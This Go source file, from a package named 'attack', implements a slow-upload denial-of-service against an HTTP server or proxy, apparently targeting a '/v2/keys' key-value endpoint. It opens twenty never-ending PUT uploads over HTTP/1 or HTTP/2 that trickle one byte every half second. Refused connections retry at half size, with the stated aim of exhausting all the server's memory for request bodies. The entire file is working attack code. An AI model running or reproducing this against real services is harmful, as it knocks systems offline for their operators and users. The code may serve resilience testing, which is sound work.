package attack

import (
	"bytes"
	"context"
	"sync"
	"time"

	"golang.org/x/net/http2"
)

const (
	// unfinished is how many uploads there are.
	unfinished = 20
	// announcedBody is the length that each announces: the largest that the proxy accepts.
	announcedBody = 10 << 20
	// sentBody is how much of it each sends at once. It is credit: from then on the average
	// rate stays high enough for half an hour. Whoever is refused tries again with half of it,
	// down to leastBody, so that all memory for bodies is taken in the end.
	sentBody  = 5 << 20
	leastBody = 40 << 10
	// uploadBeat is the interval of the bytes that follow.
	uploadBeat = 500 * time.Millisecond
)

// uploads starts uploads that do not end.
func uploads(ctx context.Context, c *crew, ready func()) error {
	var started sync.WaitGroup
	started.Add(unfinished)
	return together(ctx, unfinished, func(i int) {
		once := sync.OnceFunc(started.Done)
		defer once()
		for size := int64(sentBody); ctx.Err() == nil; size = max(size/2, leastBody) {
			if k, err := c.dial(ctx, i, dialOptions{}); err == nil {
				stop := context.AfterFunc(ctx, func() { _ = k.SetDeadline(time.Unix(1, 0)) })
				c.upload(ctx, k, size, once)
				k.leave(stop() && ctx.Err() == nil)
			}
			once()
			wait(ctx, beat)
		}
	}, func() {
		started.Wait()
		ready()
	})
}

// upload sends one body that does not end, until the server ends it. It calls sent when the
// first part, of this size, is sent.
func (c *crew) upload(ctx context.Context, k *conn, size int64, sent func()) {
	r := &request{method: "PUT", target: "/v2/keys" + c.Folder + "/upload", authorization: c.authorization(), body: "value=", announced: announcedBody}
	if c.Protocol == HTTP2 {
		c.uploadHTTP2(ctx, k, r, size, sent)
		return
	}
	refused := make(chan struct{})
	go func() { // an answer before the end of the body is a refusal
		defer close(refused)
		_, _ = k.Read(make([]byte, 1))
	}()
	if _, err := k.Write(append(r.http1(c.Protocol), long(int(size))...)); err == nil {
		sent()
	}
	tick := time.NewTicker(uploadBeat)
	defer tick.Stop()
	for {
		select {
		case <-tick.C:
			if _, err := k.Write([]byte("x")); err == nil {
				continue
			}
		case <-refused:
			c.answers.Add(1)
		case <-ctx.Done():
		}
		_ = k.SetReadDeadline(time.Unix(1, 0))
		<-refused
		return
	}
}

// uploadHTTP2 sends as much of a body as the server's windows allow.
func (c *crew) uploadHTTP2(ctx context.Context, k *conn, r *request, size int64, sent func()) {
	h := newH2(k)
	if h.begin() != nil {
		return
	}
	stream, err := h.send(r)
	if err != nil {
		return
	}
	windows := map[uint32]int64{0: 65535 - int64(len(r.body)), stream: 65535 - int64(len(r.body))}
	var mu sync.Mutex
	more, refused := make(chan struct{}, 1), make(chan struct{})
	go func() {
		defer close(refused)
		for {
			frame, err := h.frame()
			if err != nil {
				return
			}
			mu.Lock()
			switch frame := frame.(type) {
			case *http2.WindowUpdateFrame:
				windows[frame.StreamID] += int64(frame.Increment)
			case *http2.SettingsFrame:
				if window, ok := frame.Value(http2.SettingInitialWindowSize); ok {
					windows[stream] += int64(window) - 65535
				}
			case *http2.MetaHeadersFrame, *http2.RSTStreamFrame, *http2.GoAwayFrame:
				mu.Unlock()
				return
			}
			mu.Unlock()
			select {
			case more <- struct{}{}:
			default:
			}
		}
	}()
	part := []byte(long(maxFrame))
	write := func(most int64) (n int64, ok bool) {
		mu.Lock()
		n = max(min(most, int64(len(part)), windows[0], windows[stream]), 0)
		windows[0] -= n
		windows[stream] -= n
		mu.Unlock()
		if n == 0 {
			return 0, true
		}
		var b bytes.Buffer
		_ = http2.NewFramer(&b, nil).WriteData(stream, false, part[:n]) // to memory
		return n, h.write(b.Bytes()) == nil
	}
	tick := time.NewTicker(uploadBeat)
	defer tick.Stop()
	for total := int64(0); ; {
		n, ok := write(size - total)
		total += n
		if ok && n > 0 {
			continue
		}
		if total >= size {
			sent()
		}
		select {
		case <-more:
			continue
		case <-tick.C:
			if _, ok = write(1); ok {
				continue
			}
		case <-refused:
		case <-ctx.Done():
		}
		_ = k.SetDeadline(time.Unix(1, 0))
		<-refused
		return
	}
}
